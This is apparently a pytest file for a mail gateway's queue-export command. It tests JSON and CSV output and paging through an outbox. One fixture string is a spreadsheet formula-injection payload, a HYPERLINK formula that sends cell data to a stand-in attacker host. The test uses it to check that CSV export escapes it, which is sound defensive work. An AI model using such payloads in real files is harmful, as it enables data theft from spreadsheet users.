"""`mailgw queue export`: the outbox off a device for a ticket, against a real outbox."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

from gateway import outbox
from tests.conftest import run_cli

ROUTES = (
    '[[route]]\nname = "ops"\nmatch = "#"\nto = ["ops@example.com"]\n'
    '[[route]]\nname = "night"\nmatch = "alerts/#"\nto = ["night@example.com"]\n'
)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")\nsecond line'


def _send(cfg: str, *args: str, message: str) -> str:
    r = run_cli("send", "-c", cfg, "--severity", "critical", *args, input=message)
    assert r.returncode == 0, r.stderr
    return r.stdout.strip()


def test_export_json_and_csv(write_config: Callable[..., Path]) -> None:
    cfg = str(write_config(ROUTES))
    door = _send(cfg, "--sensor", "door", "--topic", "alerts/door", message="door open")
    evil = _send(cfg, "--sensor", "fan", message=HOSTILE)

    r = run_cli("queue", "export", "-c", cfg)
    assert r.returncode == 0, r.stderr
    rows = json.loads(r.stdout)
    assert [(row["id"], row["route"]) for row in rows] == [
        (door, "night"),
        (door, "ops"),
        (evil, "ops"),
    ]
    assert rows[2]["message"] == HOSTILE and rows[0]["state"] == "queued"
    assert rows[0]["received_at_utc"].endswith("Z") and rows[0]["topic"] == "alerts/door"
    assert r.stdout.isascii()

    r = run_cli("queue", "export", "--format", "csv", "-c", cfg)
    assert r.returncode == 0, r.stderr
    table = list(csv.DictReader(io.StringIO(r.stdout, newline="")))
    assert [row["id"] for row in table] == [door, door, evil]
    # A spreadsheet would run the sensor's text as a formula; it gets a leading '.
    assert table[2]["message"] == "'" + HOSTILE
    assert table[0]["last_error"] == "" and table[0]["attempts"] == "0"

    r = run_cli("queue", "export", "--state", "sent", "-c", cfg)
    assert (r.returncode, json.loads(r.stdout)) == (0, [])
    r = run_cli("queue", "export", "--state", "sent", "--format", "csv", "-c", cfg)
    assert r.stdout.splitlines() == [",".join(("id", "state", "route", *_rest()))]


def _rest() -> tuple[str, ...]:
    from gateway.cli_queue import EXPORT_FIELDS

    return EXPORT_FIELDS[3:]


def test_export_pages_through_everything(write_config: Callable[..., Path], tmp_path: Path) -> None:
    cfg = str(write_config(ROUTES))
    ids = [
        _send(cfg, "--sensor", "s", "--topic", "alerts/s", message=f"alert {i}") for i in range(5)
    ]
    conn = outbox.connect(tmp_path / "state" / "outbox.db")
    try:
        for page in (1, 2, 3, 500):
            got = [(r["id"], r["route"]) for r in outbox.export(conn, outbox.STATES, page)]
            assert got == [(i, route) for i in ids for route in ("night", "ops")]
    finally:
        conn.close()
